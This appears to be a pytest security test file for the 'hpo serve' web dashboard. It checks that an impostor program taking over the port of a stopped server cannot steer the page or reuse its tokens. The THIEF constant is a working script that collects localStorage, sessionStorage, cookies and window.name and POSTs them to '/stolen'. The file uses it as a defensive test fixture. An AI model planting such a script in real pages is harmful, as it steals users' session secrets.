"""The page tells nobody what steers or looks: neither another program that takes the port, nor one that passes on."""

import hashlib
import http.client
import http.server
import json
import signal
import threading
import time

import pytest

from tests.serve.conftest import Served
from tests.serve.test_guard import HOST, greeted, signed
from tests.serve.test_guard import Keys as OtherKeys
from tests.support.browser import browser, install

pytestmark = [pytest.mark.process, pytest.mark.xdist_group("serve")]

THIEF = """<!doctype html><title>hpo</title><script>
const found = { ...localStorage, ...sessionStorage, cookie: document.cookie, address: location.href, name: window.name };
fetch("/stolen", { method: "POST", body: JSON.stringify(found) }).then(() => { document.title = "stolen"; });
</script>"""
"""A page that takes all that a page at this address may read."""


class Recorder(http.server.ThreadingHTTPServer):
    """Another program at the port, which keeps all that it is sent, and says what makes a page talk most."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, port):
        self.requests = []
        self.hello = lambda _: (200, json.dumps({"boot": "0" * 32, "now": 0, "proofs": ["0" * 64] * 2}))
        super().__init__(("127.0.0.1", port), Answering)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def paths(self):
        return [path.partition("?")[0] for _, path, _, _ in self.requests]

    def close(self):
        self.shutdown()
        self.server_close()


class Answering(http.server.BaseHTTPRequestHandler):
    def answer(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.server.requests.append((self.command, self.path, dict(self.headers), body))
        path, _, query = self.path.partition("?")
        status, text = self.server.hello(query) if path == "/api/hello" else (200, THIEF)
        self.send_response(status)
        self.send_header("content-type", "application/json" if path.startswith("/api/") else "text/html")
        self.send_header("content-length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())

    do_GET = do_POST = do_HEAD = answer

    def log_message(self, *_):
        pass


def ask(port, path, method="GET", headers=None, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.request(method, path, body, headers or {})
    answer = connection.getresponse()
    found = answer.status, answer.read()
    connection.close()
    return found


def until(window, script, seconds=20.0):
    deadline = time.monotonic() + seconds
    while not (found := window.run(script)):
        assert time.monotonic() < deadline, (script, window.messages())
        time.sleep(0.05)
    return found


@pytest.fixture(scope="module")
def window(tmp_path_factory):
    if reason := install():
        pytest.skip(reason)
    with browser(tmp_path_factory.mktemp("profile"), network=True) as opened:
        opened.driver.set_script_timeout(60)
        yield opened


NOTICE = "return document.querySelector('#notice').textContent"
POST = "return send('/e/0/commands', { method: 'POST', body: '{}' }).then(() => 'sent', () => 'not sent')"
STATE = "return document.querySelector('#connection').dataset.state"


@pytest.mark.timeout(240)
def test_nothing_that_a_program_at_the_port_of_an_ended_server_is_sent_or_finds_steers_or_looks(
    place, window, tmp_path
):
    file = tmp_path / "token"
    server = Served(place, "--steer", "--token-file", str(file))
    steering = (tmp_path / "token.steer").read_text().strip()
    window.visit(f"{server.root}#token={steering}")
    until(window, "return document.querySelector('main tbody a')").click()
    until(window, "return location.pathname.startsWith('/e/') && document.documentElement.dataset.figures")
    address = window.run("return location.href")
    assert "token" not in address
    assert window.run("return [session.secret, window.name]") == [steering, ""]
    assert until(window, "return document.querySelectorAll('#steer button').length") == 5
    greeting = ask(server.port, f"/api/hello?nonce={'1' * 32}")[1].decode()
    server.stop(signal.SIGKILL)
    recorder = Recorder(server.port)
    try:
        until(window, f"{NOTICE}.startsWith('What answers at this address does not know this link')")
        recorder.hello = lambda _: (200, greeting)  # a proof that another page was given
        seen = len(recorder.requests)
        assert window.run(POST) == "not sent"
        window.run("document.querySelector('#crumbs a').click()")  # whoever answers now gets no visit either
        time.sleep(2)
        assert window.run("return location.href") == address
        assert len(recorder.requests) > seen
        assert set(recorder.paths()[seen:]) == {"/api/hello"}, "nothing else is asked before it has proven itself"
        passing_on(place, file, recorder, window)
        window.driver.refresh()  # what a person does with a page that does not answer
        until(window, "return document.title === 'stolen'")
    finally:
        recorder.close()
    server.start()
    try:
        sent = recorder.requests
        kept = json.loads(next(body for _, path, _, body in sent if path == "/stolen"))
        assert "hpo" in kept, "the key of the process that has ended"
        everything = json.dumps([(*one[:3], one[3].decode()) for one in sent])
        assert steering not in everything
        assert server.token not in everything
        for method, path, headers, body in sent:
            status, _ = ask(
                server.port, path, method, {k: v for k, v in headers.items() if k != "Content-Length"}, body
            )
            assert path.startswith(("/api/hello", "/assets/", "/e/")) or status in (401, 403, 404, 405), path
        key, host = json.loads(kept["hpo"])["key"], f"127.0.0.1:{server.port}"
        for path in ("/api/latest", "/api/stream", f"/api{address.partition(str(server.port))[2]}/commands"):
            assert ask(server.port, path, headers={"Authorization": signed(key, path, host=host)})[0] == 401
            for text in (key, *json.loads(kept["hpo"]).values()):
                assert ask(server.port, path, headers={"Authorization": f"Bearer {text}"})[0] == 401
        window.visit(address)
        assert "Open the link that hpo serve has printed" in until(window, NOTICE)
        window.visit(f"{address}#token={steering}")
        assert until(window, "return document.querySelectorAll('#steer button').length") == 5
    finally:
        server.stop()


def passing_on(place, file, recorder, window):
    """A server that comes back at another port, with the same secrets, proves nothing by way of the recorder."""
    other = Served(place, "--steer", "--token-file", str(file))
    seen = len(recorder.requests)
    answers = set()

    def hello(query):
        found = [ask(other.port, f"/api/hello?{query}", headers={"Host": f"127.0.0.1:{port}"}) for port in ports]
        answers.update(status for status, _ in found)
        return 200, found[-1][1].decode()

    try:
        ports = (recorder.server_port, other.port)
        recorder.hello = hello
        deadline = time.monotonic() + 20
        while len(recorder.requests) < seen + 2:
            assert time.monotonic() < deadline
            time.sleep(0.1)
        assert answers == {403, 200}
        assert set(recorder.paths()[seen:]) == {"/api/hello"}
        assert window.run(STATE) == "disconnected"
    finally:
        other.stop()


def test_a_page_without_the_link_comes_back_when_another_tab_of_the_browser_has_opened_it(place, window, tmp_path):
    server = Served(place, "--token-file", str(tmp_path / "token"))
    driver = window.driver
    first = driver.current_window_handle
    try:
        window.visit(server.link)
        window.visit(server.root + "latest")  # an address alone: the key of this process is known, the link is not
        until(window, "return document.documentElement.dataset.figures")
        server.stop(signal.SIGKILL)
        server.start()
        until(window, f"{NOTICE}.startsWith('Open the link that hpo serve has printed')")
        driver.switch_to.new_window("tab")
        window.visit(server.link)
        until(window, "return document.querySelector('main tbody a')")
        driver.close()
        driver.switch_to.window(first)
        until(window, f"{STATE} === 'live'")
        assert window.run(NOTICE) == ""
    finally:
        server.stop()


def test_the_log_of_a_trial_is_shown_as_text_by_its_link(place, served, window):
    window.visit(served.link)
    rows = "[...document.querySelectorAll('main tbody tr')]"
    find = f"return {rows}.find(r => r.textContent.includes('real'))?.querySelector('a').href"
    window.visit(until(window, find) + "/t/1")
    link = "document.querySelector('#attempts tbody a')"
    until(window, f"return {link}")
    window.run(f"{link}.click()")
    until(window, "return location.protocol === 'blob:'")
    assert window.run("return document.body.textContent").startswith("x is --x=")
    assert window.run("return document.contentType") == "text/plain"


HASHES = """
const bytes = (n) => Uint8Array.from({ length: n }, (_, i) => (n * 7 + i * 13) & 255);
return Array.from({ length: 200 }, (_, n) => hex(sha256(bytes(n))))"""


def test_what_the_page_computes_is_hmac_sha256(served, window):
    window.visit(served.link)
    expected = [hashlib.sha256(bytes((n * 7 + i * 13) & 255 for i in range(n))).hexdigest() for n in range(200)]
    assert window.run(HASHES) == expected
    keys = OtherKeys("é" * 40)  # longer than a block
    told = greeted(keys)
    mac = f"mac(mac('{'é' * 40}', 'hpo serve', '{told['boot']}'), 'server', '{'0123456789abcdef' * 2}', '{HOST}')"
    assert window.run(f"return {mac}") == told["proofs"][0]


@pytest.mark.slow
def test_a_page_of_a_network_where_browsers_lend_no_hmac_proves_and_signs_too(place, tmp_path):
    if reason := install():
        pytest.skip(reason)
    server = Served(place, "--steer", "--host-name", "gpu7")
    try:
        with browser(tmp_path, network=True, further=["--host-resolver-rules=MAP gpu7 127.0.0.1"]) as opened:
            opened.visit(f"http://gpu7:{server.port}/latest#token={server.token}")
            until(opened, "return document.documentElement.dataset.figures")
            assert opened.run("return [isSecureContext, typeof crypto.subtle]") == [False, "undefined"]
    finally:
        server.stop()
